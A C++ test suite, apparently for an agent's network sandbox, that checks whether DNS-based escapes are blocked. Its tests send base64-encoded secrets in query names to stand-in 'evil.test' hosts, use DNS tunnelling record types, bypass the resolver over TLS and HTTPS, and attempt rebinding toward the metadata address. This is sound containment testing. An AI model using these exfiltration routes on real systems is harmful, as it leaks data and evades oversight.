// Names as a way out: the resolver inside answers by itself, and brigd looks up nothing that is not allowed.
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>

#include "agent/tools.hpp"

namespace brig::escape {
namespace {

constexpr const char* kOnlyAllowed =
    "brigd looks up only what a rule allows, and the resolver inside asks nobody else";

Proof resolver_works() {
  return proven_by("names.good", [] {
    auto answer = ask_dns("good.test");
    if (answer.code != 0 || answer.addresses.empty()) return broken("good.test was not answered");
    return escaped(answer.addresses[0]);
  });
}

Outcome answered(const Answer& answer) {
  if (answer.code == 0 && !answer.addresses.empty()) return escaped("it is " + answer.addresses[0]);
  return refused("code " + std::to_string(answer.code));
}

// Over TCP: the question in one piece, or two in one.
Outcome by_tcp(const std::string& name) {
  int fd = dial("127.0.0.1", 53);
  if (fd < 0) return refused(std::strerror(errno));
  auto question = dns_question(name, 1);
  std::string head{static_cast<char>(question.size() >> 8), static_cast<char>(question.size() & 0xff)};
  send_all(fd, head + question);
  char size[2] = {};
  std::string answer;
  if (::recv(fd, size, 2, MSG_WAITALL) == 2) {
    answer.resize(static_cast<std::size_t>(static_cast<unsigned char>(size[0]) << 8 |
                                           static_cast<unsigned char>(size[1])));
    if (::recv(fd, answer.data(), answer.size(), MSG_WAITALL) < 0) answer.clear();
  }
  ::close(fd);
  return answered(read_answer(answer));
}

}  // namespace

ATTEMPT(names, secret_in_a_name, kOnlyAllowed, resolver_works()) {
  asked("c2vjcmv0.evil.test", 443);
  return answered(ask_dns("c2VjcmV0.evil.test"));
}
ATTEMPT(names, secret_in_many_parts, kOnlyAllowed, resolver_works()) {
  std::string part(60, 'a'), name = part + "." + part + "." + part + ".evil.test";
  asked(name, 443);
  return answered(ask_dns(name));
}
ATTEMPT(names, secret_below_an_allowed_name, "a rule for a name is not one for what lies below it",
        resolver_works()) {
  asked("c2vjcmv0.good.test", 443);
  return answered(ask_dns("c2vjcmv0.good.test"));
}
ATTEMPT(names, secret_in_a_txt_question, kOnlyAllowed, resolver_works()) {
  return answered(ask_dns("c2vjcmv0.txt.evil.test", 16));
}
ATTEMPT(names, secret_in_an_ip6_question, kOnlyAllowed, resolver_works()) {
  return answered(ask_dns("c2vjcmv0.six.evil.test", 28));
}
ATTEMPT(names, secret_in_an_any_question, kOnlyAllowed, resolver_works()) {
  return answered(ask_dns("c2vjcmv0.any.evil.test", 255));
}
ATTEMPT(names, secret_in_a_null_question, "NULL records are what DNS tunnels use", resolver_works()) {
  return answered(ask_dns("c2vjcmv0.null.evil.test", 10));
}
ATTEMPT(names, reverse_lookup, kOnlyAllowed, resolver_works()) {
  return answered(ask_dns("254.169.254.169.in-addr.arpa", 12));
}
ATTEMPT(names, over_tcp, kOnlyAllowed, proven_by("names.good_over_tcp", [] { return by_tcp("good.test"); })) {
  asked("tcp.evil.test", 443);
  return by_tcp("tcp.evil.test");
}
ATTEMPT(names, two_questions_in_one, "a packet with two questions is no question", resolver_works()) {
  auto packet = dns_question("good.test", 1);
  packet[5] = 2;
  packet += dns_question("second.evil.test", 1).substr(12);
  int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  timeval patience{2, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  socklen_t size = 0;
  auto to = address_of("127.0.0.1", 53, size);
  ::sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&to), size);
  char answer[512];
  auto n = ::recv(fd, answer, sizeof answer, 0);
  ::close(fd);
  return n > 0 ? answered(read_answer({answer, static_cast<std::size_t>(n)})) : refused("no answer");
}
ATTEMPT(names, the_hosts_resolver, "there is no way to any resolver but the one inside") {
  auto answer = ask_dns("direct.evil.test", 1, "192.0.2.53");
  return answer.code == -1 ? refused("no answer") : escaped("it answered");
}
ATTEMPT(names, a_public_resolver, "there is no way to any resolver but the one inside") {
  return sends_datagram("93.184.215.20", 53);
}
ATTEMPT(names, systemd_resolver, "the host's resolver on 127.0.0.53 is on the host's loopback",
        resolver_works()) {
  auto answer = ask_dns("stub.evil.test", 1, "127.0.0.53");
  return answer.code == 0 ? escaped("it answered") : refused("code " + std::to_string(answer.code));
}
ATTEMPT(names, multicast_dns, "nobody answers multicast on loopback") {
  return sends_datagram("224.0.0.251", 5353);
}
ATTEMPT(names, over_tls_to_any_host, "a resolver over TLS is a host like any other", door_works()) {
  asked("dns.evil.test", 853);
  return passes(by_connect("dns.evil.test:853", client_hello({"dns.evil.test"})));
}
ATTEMPT(names, over_tls_to_an_address, "an address needs a rule for addresses", door_works()) {
  asked("93.184.215.20", 853);
  return passes(by_connect("93.184.215.20:853", client_hello({})));
}
ATTEMPT(names, over_https_to_any_host, "a resolver over HTTPS is a host like any other", door_works()) {
  asked("doh.evil.test", 443);
  return passes(by_connect("doh.evil.test:443", client_hello({"doh.evil.test"})));
}
ATTEMPT(names, over_https_by_address, "an address needs a rule for addresses", door_works()) {
  asked("93.184.215.20", 443);
  return passes(by_socks("93.184.215.20", 443, client_hello({"doh.evil.test"})));
}
ATTEMPT(names, over_tcp_through_the_door, "TCP to port 53 of a resolver is a connection like any other",
        door_works()) {
  asked("93.184.215.20", 53);
  return passes(by_socket("93.184.215.20", 53, "smuggled"));
}
ATTEMPT(names, in_a_connect_target, "what is denied is not looked up, so nothing travels in the name",
        door_works()) {
  asked("c2vjcmv0.connect.evil.test", 443);
  return passes(by_connect("c2vjcmv0.connect.evil.test:443", client_hello({"good.test"})));
}
ATTEMPT(names, in_a_socks_target, "what is denied is not looked up", door_works()) {
  asked("c2vjcmv0.socks.evil.test", 443);
  return passes(by_socks("c2vjcmv0.socks.evil.test", 443, client_hello({"good.test"})));
}
ATTEMPT(names, in_an_http_target, "what is denied is not looked up", door_works()) {
  asked("c2vjcmv0.http.evil.test", 80);
  return passes(by_http("http://c2vjcmv0.http.evil.test/", "c2vjcmv0.http.evil.test"));
}
ATTEMPT(names, in_a_question_by_socket, "a question to brigd looks up nothing", door_works()) {
  asked("c2vjcmv0.ask.evil.test", 443);
  return passes(by_socket("c2vjcmv0.ask.evil.test", 0, ""));
}
ATTEMPT(names, home_grown_hosts_file,
        "what a name means is decided outside: /etc/hosts inside means nothing there", door_works()) {
  // An address of the resolver's own that was never given to any name.
  asked("127.9.200.200", 443);
  return passes(by_connect("127.9.200.200:443", client_hello({"good.test"})));
}
ATTEMPT(names, rebinding,
        "the address that was checked is the one that is dialled: there is no second lookup",
        proven_by("names.first_answer", [] { return arrives(by_socket("good.rebind.test", 8443, "words")); }),
        "wide") {
  // Outside, every second lookup of this name gives the metadata address. brigd keeps an answer for a while,
  // so this goes on until it has asked again.
  while (true) {
    auto got = by_socket("turn.rebind.test", 8443, "words");
    if (got.heard.find("HEARD at 169.254.169.254") != std::string::npos) return escaped(got.heard);
    if (!got.let_in) {
      asked("turn.rebind.test", 8443);
      return refused(got.heard);
    }
    ::usleep(100'000);
  }
}
ATTEMPT(names, one_good_one_bad, "of several addresses those that may not be are dropped", door_works(),
        "wide") {
  auto got = by_socket("both.inward.test", 8443, "words");
  return got.heard.find("at 93.184.215.14") == std::string::npos && got.let_in ? escaped(got.heard)
                                                                               : refused(got.heard);
}
ATTEMPT(names, search_domain, "a name is looked up as it is, without the host's search domains", door_works(),
        "wide") {
  asked("short.name", 8443);
  return passes(by_socket("short.name", 8443, "smuggled"));
}
ATTEMPT(names, search_domain_of_a_single_word, "a name is looked up as it is", door_works(), "wide") {
  asked("intranet", 8443);
  return passes(by_socket("intranet", 8443, "smuggled"));
}

}  // namespace brig::escape
